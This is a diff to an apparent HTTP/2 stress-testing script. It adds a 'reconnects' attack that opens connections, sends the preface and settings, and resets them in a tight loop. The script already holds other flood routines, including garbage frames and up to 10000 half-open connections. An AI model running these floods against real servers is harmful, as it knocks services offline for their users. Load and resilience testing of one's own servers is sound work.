@@ -7,6 +7,7 @@ import itertools
 import os
 import resource
 import socket
+import struct
 import sys
 import threading
 import time
@@ -121,6 +122,18 @@ def garbage(address):
         raw.send(PREFACE + os.urandom(65536) if os.urandom(1)[0] % 2 else os.urandom(65536))
 
 
+def reconnects(address):
+    """Connections that greet and are reset, one after the other, as fast as they come."""
+    host, port = address.rsplit(":", 1)
+    while True:
+        try:
+            with socket.create_connection((host, int(port))) as connection:
+                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # no port stays in use
+                connection.sendall(PREFACE + setting())
+        except OSError:
+            time.sleep(0.01)
+
+
 def half_open(address, count):
     """Calls on so many connections on which nothing is sent; those that are cut off come again."""
     resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
@@ -224,6 +237,7 @@ ATTACKS = {
     "settings": settings,
     "pings": pings,
     "garbage": garbage,
+    "reconnects": reconnects,
     "half-open calls, 1 connection": lambda address: half_open(address, 1),
     "half-open calls, 100 connections": lambda address: half_open(address, 100),
     "half-open calls, 10000 connections": lambda address: half_open(address, 10000),
